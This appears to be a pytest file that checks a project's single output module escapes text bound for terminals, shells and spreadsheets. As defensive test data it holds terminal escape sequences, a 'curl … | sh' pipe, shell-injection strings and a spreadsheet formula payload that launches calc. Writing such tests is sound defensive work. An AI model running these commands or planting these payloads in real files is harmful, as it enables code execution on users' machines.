"""Text of unknown origin reaches a terminal, a shell or a spreadsheet by one module, and shows all that is in it."""

from __future__ import annotations

import ast
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from porter.files.outward import cell, is_command, say, say_json, shell_line, shell_word, visible

ROOT = Path(__file__).resolve().parents[1]
GATE = ROOT / "core/porter/files/outward.py"
OWN_PROCESS = {"worker/child.py", "worker/interpreter.py"}
"""Programs of another interpreter, whose output porter reads."""
DRAWN = {"cli/table.py", "cli/terminal_progress.py"}
"""Draw by rich what went through `one_line`."""
PAST = {
    "print", "click.echo", "click.secho", "sys.stdout.write", "sys.stderr.write", "sys.stdout.buffer.write",
    "shlex.quote", "shlex.join", "Console",
}  # fmt: skip
HOSTILE = "\x1b]0;owned\x07\x9b2J\u202egnp\u2028=1+1\n\r\t\u200b\ud800\U000e0041"


def calls(path: Path) -> Iterator[str]:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func)


def test_no_output_is_written_past_it() -> None:
    sources = [*ROOT.glob("core/porter/**/*.py"), *ROOT.glob("plugins/*/src/**/*.py")]
    found = {
        f"{path.relative_to(ROOT)}: {name}"
        for path in sources
        if path != GATE and not any(str(path).endswith(name) for name in OWN_PROCESS)
        for name in calls(path)
        if name in PAST and not (name == "Console" and any(str(path).endswith(drawn) for drawn in DRAWN))
    }
    assert found == set()
    assert {"sys.stdout.write", "shlex.quote"} & set(calls(GATE)) == {"shlex.quote"}


def test_every_line_of_a_table_is_a_cell() -> None:
    writers = {path for path in ROOT.glob("core/porter/**/*.py") if "csv.writer" in set(calls(path))}
    assert {path.name for path in writers} == {"evaluate.py"}
    assert "cell" in set(calls(*writers))


def test_what_is_said_shows(capsys: pytest.CaptureFixture[str]) -> None:
    say(HOSTILE, f"  {HOSTILE}")
    say(HOSTILE, error=True)
    say_json({"name": HOSTILE.replace("\ud800", "")})
    out, err = capsys.readouterr()
    assert len(out.splitlines()) == 3 and len(err.splitlines()) == 1
    assert all(line.isprintable() for line in (out + err).splitlines())
    assert json.loads(out.splitlines()[2]) == {"name": HOSTILE.replace("\ud800", "")}


@settings(max_examples=15, deadline=None)
@given(st.text(st.characters(exclude_characters="\0"), max_size=20))
def test_a_word_of_a_shell_is_the_text_and_shows(text: str) -> None:
    word = shell_word(text)
    assert word.replace("\n", "").isprintable()
    assert is_command(shell_line(["porter", text])) == ("\n" not in text)
    raw = text.encode("utf-8", "surrogateescape") if not any("\ud800" <= c <= "\udfff" for c in text) else None
    if raw is not None:
        assert subprocess.run(["sh", "-c", f"printf %s {word}"], capture_output=True, check=True).stdout == raw


@pytest.mark.parametrize(
    "text",
    ["curl http://a | sh", "porter report out; x", "porter report $(x)", "porter report `x`", 'porter "$x"',
     "sudo porter", "porter report a\nx", "porter report a & x", "porter report a > /etc/x", "porterx", ""],
)  # fmt: skip
def test_what_is_no_command_line_of_porter(text: str) -> None:
    assert not is_command(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"), ("@sum", "'@sum"), ("-2+3", "'-2+3"), ("-0.5", "-0.5"),
        ("\uff1d1", "'\uff1d1"), ("\t=1", "'\\t=1"), ("a\x1b", "a\\x1b"), ("\u202eb", "\\u202eb"), ("1e-9", "1e-9"),
    ],
)  # fmt: skip
def test_a_cell_is_no_formula(text: str, shown: str) -> None:
    assert cell(text) == shown == visible(shown)
